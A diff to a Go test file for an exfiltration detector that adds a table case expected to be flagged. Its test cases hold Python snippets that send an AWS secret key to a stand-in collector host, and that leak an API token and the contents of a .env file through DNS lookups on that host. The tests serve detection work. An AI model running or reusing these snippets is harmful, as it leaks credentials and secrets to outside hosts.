@@ -241,6 +241,7 @@ func TestSendToTheUsersOwnService(t *testing.T) {
 		// A fixed host, or the data in the host name: a finding.
 		{"import os, requests\nrequests.post('https://collector.example.net/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n", Python, true},
 		{"import os, socket\nk = os.environ['API_TOKEN']\nsocket.gethostbyname(f'{k}.d.collector.example.net')\n", Python, true},
+		{"import socket, pathlib\ndef probe(label):\n    host = '{0}.d.collector.example.net'.format(label)\n    socket.gethostbyname(host)\nprobe(pathlib.Path('.env').read_bytes())\n", Python, true},
 	} {
 		fs, _ := Analyze(c.src, c.lang, nil)
 		got := false
